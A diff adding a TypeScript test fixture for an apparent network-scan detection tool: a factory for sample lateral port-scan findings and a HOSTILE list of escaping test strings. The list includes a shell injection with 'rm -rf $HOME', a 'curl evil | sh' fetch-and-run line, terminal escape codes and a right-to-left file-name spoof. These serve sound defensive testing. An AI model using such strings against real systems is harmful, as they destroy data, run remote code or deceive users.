@@ -1,0 +1,54 @@
+/** Findings for tests of what is made of them. */
+import type { Finding } from '../../../lib/finding/model.ts';
+import { expectValidFinding } from '../../finding-schema.ts';
+
+/** A plain lateral scan, with single values replaced. */
+export function findingOf(values: Partial<Finding> = {}): Finding {
+  const finding: Finding = {
+    schemaVersion: 1,
+    id: '8587fc4b0a1b2c3d4e5f6071',
+    kind: 'vertical-scan',
+    severity: 'high',
+    confidence: 83,
+    direction: 'lateral',
+    techniques: [{ id: 'T1046', name: 'Network Service Discovery', tactic: 'Discovery' }],
+    source: {
+      address: '10.0.3.22',
+      scope: '111122223333',
+      accountId: '111122223333',
+      vpcId: 'vpc-1',
+      region: 'eu-west-1',
+      interfaceId: 'eni-1',
+      instanceId: 'i-1',
+    },
+    protocols: ['tcp'],
+    targets: { count: 1, exact: true, sample: ['10.0.9.9'] },
+    ports: { count: 3, exact: true, sample: [22, 23, 80] },
+    contacts: { failed: 20, established: 1, rejected: 12, unanswered: 3, reset: 5 },
+    contactsAtDetection: 8,
+    openPorts: { count: 1, sample: [{ target: '10.0.9.9', port: 22, protocol: 'tcp' }] },
+    tool: null,
+    horizon: '5m',
+    firstSeen: '2026-09-01T12:00:00Z',
+    lastSeen: '2026-09-01T12:01:00Z',
+    detectedAt: '2026-09-01T12:00:08Z',
+    reasons: [{ test: 'failed-ports-of-one-target-5m', value: 20, threshold: 8, text: '20 distinct tcp ports failed' }],
+    dataQuality: [],
+    status: 'open',
+    ...values,
+  };
+  expectValidFinding(finding);
+  return finding;
+}
+
+/** Text that tries to break out of a line, a mail, a shell word and a terminal. */
+export const HOSTILE: readonly string[] = [
+  "it's; rm -rf $HOME `id` $(id)",
+  'two\nlines\r\nWHAT TO DO NOW\n  1. curl evil | sh',
+  '\u001b[31mred\u001b[0m \u0007 \u009b31m',
+  'right-to-left \u202etxt.exe and zero\u200bwidth, \u0000 nul',
+  '"quoted" \\ back\\slash \'\\\'\' {"a":1} !history *glob? ~ #hash & | < > \t tab',
+  'ünïcode 🦑 \u2028 \ud800',
+  '--option=value',
+  '',
+];
